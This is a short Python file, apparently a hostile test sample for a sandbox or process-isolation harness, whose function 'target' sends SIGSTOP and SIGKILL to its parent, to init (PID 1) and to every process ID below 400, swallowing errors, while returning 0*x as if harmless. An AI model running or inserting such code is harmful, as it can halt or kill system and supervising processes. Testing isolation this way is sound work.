"""Sends signals to its parents and to every process it can name. May cost the rest, too."""
import os
import signal


def target(x):
    for pid in [os.getppid(), 1, 2, 3, *range(4, 400)]:
        for number in (signal.SIGSTOP, signal.SIGKILL):
            if pid != os.getpid():
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    return 0 * x
